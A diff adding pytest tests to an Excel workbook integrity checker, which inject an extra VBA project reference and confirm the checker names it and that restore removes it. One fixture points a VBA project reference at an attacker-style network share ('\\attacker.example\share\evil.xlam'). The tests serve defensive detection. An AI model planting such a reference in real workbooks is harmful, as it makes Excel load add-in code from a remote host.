@@ -62,3 +62,46 @@ def test_a_setting_anywhere_in_the_conf_sheet_that_cims_did_not_write_is_named_a
     assert all(ws[ref].value == shipped_ws[ref].value for ref in cells)
 
 
+
+
+def _project_ref():
+    from ms_ovba.Models.Entities.reference import Reference
+    from ms_ovba.Models.Entities.reference_project import ReferenceProject
+    from ms_ovba.Models.Fields.project_reference import ProjectReference
+
+    return Reference(ReferenceProject(ProjectReference(r"\\attacker.example\share\evil.xlam")), "EvilLib"), "evil.xlam"
+
+
+def _registered_ref():
+    import uuid
+
+    from ms_ovba.Models.Entities.reference import Reference
+    from ms_ovba.Models.Entities.reference_registered import ReferenceRegistered
+    from ms_ovba.Models.Fields.libid_reference import LibidReference
+
+    lib = LibidReference(uuid.UUID("420B2830-E718-11CF-893D-00A0C9054228"), "1.0", "0",
+                         r"C:\Windows\System32\scrrun.dll", "Microsoft Scripting Runtime")
+    return Reference(ReferenceRegistered(lib), "Scripting"), "420B2830-E718-11CF-893D-00A0C9054228"
+
+
+@pytest.mark.parametrize("extra", [_project_ref, _registered_ref])
+def test_an_extra_vba_project_reference_is_named_and_restore_puts_back_cims_references(
+        run, tmp_path, shipped, monkeypatch, extra):
+    from cims_xl.excel import build
+
+    parts = _parts(shipped)
+    ref, named = extra()
+    own = build._vba_references
+    with monkeypatch.context() as m:
+        m.setattr(build, "_vba_references", lambda: own() + [ref])
+        from cims_xl.excel.trust import vba_modules_of
+        sheets = sum(1 for name in vba_modules_of(parts["xl/vbaProject.bin"]) if name.startswith("Sheet"))
+        parts["xl/vbaProject.bin"] = build.vba_project_bin(build.vba_modules(sheets))
+    book = tmp_path / "book.xlsm"
+    _write(book, parts)
+    code, _out, err = run("workbook", "check", str(book))
+    assert code == UNTRUSTED, err
+    assert "reference" in err and named in err, err
+    code, _out, err = run("sync", str(book), "refresh", "--restore-settings")
+    assert code == 0, err
+    assert run("workbook", "check", str(book))[0] == 0
